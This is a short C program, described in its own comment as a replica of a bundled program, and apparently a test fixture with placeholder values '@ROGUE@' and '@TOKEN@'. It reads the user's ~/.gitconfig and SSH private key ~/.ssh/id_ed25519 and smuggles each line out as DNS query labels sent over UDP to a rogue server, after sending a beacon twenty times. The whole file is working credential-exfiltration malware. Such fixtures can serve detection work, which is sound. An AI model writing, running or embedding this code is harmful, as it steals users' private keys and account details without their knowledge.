/* Replica of a bundled program: what it reads leaves line by line, as labels of names. */
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void ask(const char *text)
{
    unsigned char query[600] = { 0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0 };
    struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(53) };
    size_t length = strcspn(text, "\n"), at = 12;
    int out = socket(AF_INET, SOCK_DGRAM, 0);

    if (length > 63)
        length = 63;
    query[at++] = length;
    memcpy(query + at, text, length);
    at += length;
    query[at++] = 4;
    memcpy(query + at, "name", 4);
    at += 5;
    query[at + 1] = 1;
    query[at + 3] = 1;
    inet_aton("@ROGUE@", &to.sin_addr);
    sendto(out, query, at + 4, 0, (struct sockaddr *)&to, sizeof(to));
    close(out);
}

static void take(const char *path)
{
    char line[256];
    FILE *file = fopen(path, "r");

    while (file && fgets(line, sizeof(line), file))
        ask(line);
    if (file)
        fclose(file);
}

int main(void)
{
    char path[512];

    for (int times = 0; times < 20; times++)
        ask("hosts-@TOKEN@");
    snprintf(path, sizeof(path), "%s/.gitconfig", getenv("HOME"));
    take(path);
    snprintf(path, sizeof(path), "%s/.ssh/id_ed25519", getenv("HOME"));
    take(path);
    return 0;
}
